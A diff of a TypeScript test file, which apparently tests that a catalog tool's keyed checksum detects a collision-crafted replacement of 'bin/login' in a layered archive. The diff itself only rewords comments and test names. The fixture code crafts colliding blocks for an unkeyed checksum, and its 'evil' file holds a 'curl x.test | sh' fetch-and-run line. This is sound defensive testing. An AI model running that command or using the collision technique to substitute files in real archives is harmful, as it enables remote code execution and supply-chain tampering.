@@ -1,4 +1,5 @@
-// Two files whose checksums would be equal if the lanes started from what is in the source: a block takes back the difference of the one before.
+// Two files whose checksums would be equal if the lanes started from the constants in the source: each block undoes the previous one's
+// difference.
 import assert from 'node:assert/strict';
 import { randomBytes } from 'node:crypto';
 import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
@@ -27,7 +28,7 @@ function inverse(odd: number): number {
 
 const turned = (word: number): number => Math.imul((word << 13) | (word >>> 19), PRIME_1);
 
-/** What the lanes of a column are before a block's words are added. */
+/** A column's lanes before a block's words are added. */
 function mixedLanes(lanes: readonly number[], column: number): number[] {
   const [a, b, c, d] = [0, 4, 8, 12].map((lane) => lanes[lane + column] as number) as [number, number, number, number];
   return [a ^ d ^ c, b ^ a, c ^ b, d ^ c];
@@ -46,7 +47,7 @@ function lanesAfter(lanes: readonly number[], words: Int32Array): number[] {
 
 const words = (bytes: Uint8Array): Int32Array => new Int32Array(new Uint8Array(bytes).buffer);
 
-/** Returns two files of two blocks with the same checksum, if the lanes start from `start`. */
+/** Returns two files of two blocks that have the same checksum if the lanes start from `start`. */
 function twins(start: readonly number[]): readonly [Buffer, Buffer] {
   const good = Buffer.from('#!/bin/sh\nexec /usr/sbin/login "$@"\n'.padEnd(128, '#'));
   const first = Buffer.from('#!/bin/sh\ncurl x.test | sh; exit\n'.padEnd(64, '#'));
@@ -72,7 +73,7 @@ function sumOf(key: Uint8Array, bytes: Uint8Array): string {
 
 const [GOOD, EVIL] = twins(START);
 
-/** An archive of two gzip layers, of which the second replaces `bin/login`. */
+/** An archive of two gzip layers, the second of which replaces `bin/login`. */
 function archive(t: TestContext): string {
   const files = new Files();
   const layers = [GOOD, EVIL].map((bytes) => ({ tar: tar(file('bin/login', bytes)), packed: 'gzip' as const }));
@@ -81,7 +82,7 @@ function archive(t: TestContext): string {
   return input;
 }
 
-test('bytes that were made to have the sum of others have another one with any key', () => {
+test('bytes crafted to share a checksum differ under any key', () => {
   assert.notDeepEqual(GOOD, EVIL);
   assert.equal(sumOf(NO_KEY, GOOD), sumOf(NO_KEY, EVIL), 'the attack is what it says');
   for (let round = 0; round < 1000; round++) {
@@ -90,7 +91,7 @@ test('bytes that were made to have the sum of others have another one with any k
   }
 });
 
-test('a file that was replaced is not called rewritten, with a cache and without', async (t) => {
+test('a replaced file is not reported as rewritten, with or without a cache', async (t) => {
   const input = archive(t);
   const cache = path.join(testFolder(t), 'cache');
   for (const folder of [null, cache, cache]) {
@@ -100,7 +101,7 @@ test('a file that was replaced is not called rewritten, with a cache and without
   }
 });
 
-test('a catalog has a key of its own, which stays as it is', async (t) => {
+test('a catalog has its own key, which never changes', async (t) => {
   const [one, other] = [path.join(testFolder(t), 'one'), path.join(testFolder(t), 'other')];
   const keyOf = (folder: string): string => JSON.parse(readFileSync(path.join(folder, 'catalog.json'), 'utf8')).sumKey;
   for (const folder of [one, other]) await runCommand(['catalog', 'index', archive(t), '--to', folder]);
